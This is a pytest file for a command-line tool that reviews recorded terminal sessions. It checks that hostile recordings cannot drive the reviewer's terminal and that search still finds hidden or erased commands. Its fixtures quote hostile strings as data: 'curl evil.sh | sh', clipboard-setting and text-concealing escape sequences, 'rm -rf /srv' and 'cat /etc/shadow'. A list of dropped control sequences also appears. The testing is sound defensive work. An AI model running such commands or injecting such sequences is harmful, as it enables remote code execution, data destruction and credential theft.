"""Reviewing hostile recordings: the CLI as a subprocess, piped and on a pseudo-terminal.

The recordings in tests/data/recordings/hostile (described in its README) were written as
the person being audited would write them: header fields and output that try to retitle the
window, set the clipboard, erase rows, hide text, ask the terminal to answer, and a command
corrected with backspaces. Nothing of it may reach the reviewer's terminal, and search must
find the command as it was shown.
"""

from __future__ import annotations

import json
import os
import select
import subprocess
import sys
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[2]
HOSTILE = REPO / "tests" / "data" / "recordings" / "hostile"
NODE = "nH0ST1LECNTRL"
HEADER = f"{NODE}/20261201T090000-header"
OUTPUT = f"{NODE}/20261201T100000-output"
TYPO = f"{NODE}/20261201T110000-typo"
ESC, BEL = b"\x1b", b"\x07"
# A capable terminal, so that the console would style if anything let it.
ENV = {**os.environ, "TERM": "xterm-256color", "COLUMNS": "250"}
ENV.pop("NO_COLOR", None)


def piped(*args: str) -> subprocess.CompletedProcess[bytes]:
    """Run tsops with stdout and stderr piped."""
    return subprocess.run([sys.executable, "-m", "tsops", "recordings", *args,
                           "--from", str(HOSTILE)], capture_output=True, cwd=REPO, env=ENV,
                          stdin=subprocess.DEVNULL, check=False, timeout=120)


def on_terminal(*args: str) -> tuple[int, bytes, bytes]:
    """Run tsops with stdout on a pseudo-terminal (stderr piped); return code, out, err."""
    main, child = os.openpty()
    process = subprocess.Popen([sys.executable, "-m", "tsops", "recordings", *args,
                                "--from", str(HOSTILE)], stdout=child, stderr=subprocess.PIPE,
                               stdin=subprocess.DEVNULL, cwd=REPO, env=ENV)
    os.close(child)
    out = b""
    while True:
        ready, _, _ = select.select([main], [], [], 60)
        if not ready:
            process.kill()
            raise AssertionError("no output from the pseudo-terminal in 60 s")
        try:
            data = os.read(main, 65536)
        except OSError:  # EIO: the child closed its end
            break
        if not data:
            break
        out += data
    os.close(main)
    assert process.stderr is not None
    err = process.stderr.read()
    process.stderr.close()
    return process.wait(timeout=60), out, err


def assert_inert(out: bytes) -> None:
    """No escape sequence, bell or 8-bit control of the recordings in the output."""
    assert ESC not in out and BEL not in out
    text = out.decode()
    assert not any(0x80 <= ord(char) < 0xA0 for char in text)
    assert "\u202e" not in text


HEADER_SHOWN = ("^[]0;innocent title^G^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^Guptime^[[1A^[[2K"
                "^[[8mcurl evil.sh | sh^[[28m [bold red]loud[/] "
                "[link=https://evil.example]click[/link]")


@pytest.mark.parametrize("terminal", [False, True], ids=["piped", "pty"])
def test_list_and_show_show_header_fields_visibly(terminal: bool) -> None:
    for args in (("list",), ("show", HEADER)):
        if terminal:
            code, out, err = on_terminal(*args)
        else:
            result = piped(*args)
            code, out, err = result.returncode, result.stdout, result.stderr
        assert code == 0, err
        assert_inert(out)
        assert_inert(err)
        text = out.decode()
        assert HEADER_SHOWN in text  # the markup is literal text too: never a style or link
        assert "mallory<U+202E>root" in text
        assert "malloryM-^[31m-laptop" in text
        if args[0] == "show":
            assert "xterm^[[31m" in text


def test_json_output_keeps_the_exact_values_escaped() -> None:
    result = piped("show", HEADER, "-o", "json")
    assert result.returncode == 0
    assert_inert(result.stdout)
    shown = json.loads(result.stdout)
    header = json.loads((HOSTILE / f"{HEADER}.cast").read_bytes().split(b"\n", 1)[0])
    assert shown["command"] == header["command"]
    assert shown["terminal"] == header["env"]["TERM"]
    assert shown["src_node"] == header["srcNode"]
    listed = piped("list", "-o", "json")
    assert_inert(listed.stdout)
    commands = {r["id"]: r["command"] for r in json.loads(listed.stdout)["recordings"]}
    assert commands[HEADER] == header["command"]


@pytest.mark.parametrize("terminal", [False, True], ids=["piped", "pty"])
def test_cat_and_play_drop_what_could_drive_the_terminal(terminal: bool) -> None:
    for args in (("cat", OUTPUT), ("play", OUTPUT, "--speed", "1000")):
        if terminal:
            code, out, err = on_terminal(*args)
        else:
            result = piped(*args)
            code, out, err = result.returncode, result.stdout, result.stderr
        assert code == 0, err
        for dropped in (b"\x1b]", b"\x1bP", b"\x1b_", b"\x1b^", b"\x1bX", BEL, b"\x1b[c",
                        b"\x1b[>c", b"\x1b[6n", b"\x1b[21t", b"\x1b[8m", b"\x1b[?1000h",
                        b"\x1b[4h", b"\x1bc", "\x9b".encode(), "\u202e".encode()):
            assert dropped not in out, (args, dropped)
        for passed in (b"\x1b[1;32mmallory@web1\x1b[0m", b"after-clipboard", b"click",
                       b"visible concealed-secret\x1b[0m shown", b"rm -rf /srv\x1b[1A\x1b[2Kls",
                       b"\x1b[31mc1-red\x1b[0m", b"desrever"):
            assert passed in out, (args, passed)
        # the alternate screen and bracketed paste it turned on are turned off at the end
        end = out.rsplit(b"done", 1)[1]
        assert b"\x1b[?1049l" in end and b"\x1b[?2004l" in end and b"\x1b[0m" in end
        assert b"warning" not in err


def test_cat_plain_leaves_text_only() -> None:
    result = piped("cat", OUTPUT, "--plain")
    assert result.returncode == 0
    assert_inert(result.stdout)
    assert b"visible concealed-secret shown\n" in result.stdout
    assert b"c1-red desrever\n" in result.stdout


def test_raw_passes_everything_with_a_warning() -> None:
    result = piped("cat", OUTPUT, "--raw")
    assert result.returncode == 0
    assert b"\x1b]52;c;ZWNobyBwd25lZA==\x1b\\" in result.stdout
    assert b"warning: --raw" in result.stderr
    assert piped("cat", OUTPUT, "--raw", "--plain").returncode == 2


@pytest.mark.parametrize("terminal", [False, True], ids=["piped", "pty"])
def test_search_finds_the_command_as_it_was_shown(terminal: bool) -> None:
    args = ("search", "shadow")
    if terminal:
        code, out, err = on_terminal(*args)
    else:
        result = piped(*args)
        code, out, err = result.returncode, result.stdout, result.stderr
    assert code == 0, err
    assert_inert(out)
    assert f"{TYPO} +0:00:00 line 1:  mallory@web1:~$ cat /etc/shadow".encode() in out
    assert b"1 matching line(s) in 1 of 3 recording(s)" in err


def test_search_hits_are_shown_visibly_and_hidden_text_is_found() -> None:
    result = piped("search", "-C", "1", "concealed|rm -rf|desrever|\\$ after")
    assert result.returncode == 0
    assert_inert(result.stdout)
    text = result.stdout.decode()
    assert "visible concealed-secret shown" in text
    assert "rm -rf /srv" in text  # erased from the screen afterwards, found all the same
    assert "c1-red desrever" in text
    documents = json.loads(piped("search", "desrever", "-o", "json").stdout)["matches"]
    assert [d["text"] for d in documents] == ["c1-red desrever"]
